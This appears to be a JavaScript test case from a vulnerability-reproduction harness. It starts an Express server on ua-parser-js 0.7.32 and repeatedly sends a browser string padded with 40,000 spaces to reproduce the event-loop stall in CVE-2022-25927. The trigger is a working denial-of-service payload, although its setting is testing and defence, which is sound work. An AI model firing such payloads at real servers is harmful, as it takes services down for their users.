// A name of a browser with many blanks: taking those off its end takes time that grows with their square.
module.exports = {
  expects: "event_loop_stall",
  pkg: "ua-parser-js@0.7.32",
  issue: "GHSA-fhg7-m89q-25r3 (CVE-2022-25927)",
  ms: 7_000,
  start() {
    const express = require("express");
    const UAParser = require("ua-parser-js");
    const app = express();
    app.use(express.text({ limit: "1mb" }));
    app.get("/health", (_request, response) => response.send("ok"));
    app.post("/", (request, response) => {
      response.json(new UAParser(request.body).getResult().browser);
    });
    return app;
  },
  async trigger({ req, sleep, stop }) {
    const body = `x${" ".repeat(40_000)}x`;
    const headers = { "content-type": "text/plain", "content-length": body.length };
    while (!stop.v) {
      req({ path: "/", method: "POST", headers, body });
      await sleep(1500);
    }
  },
};
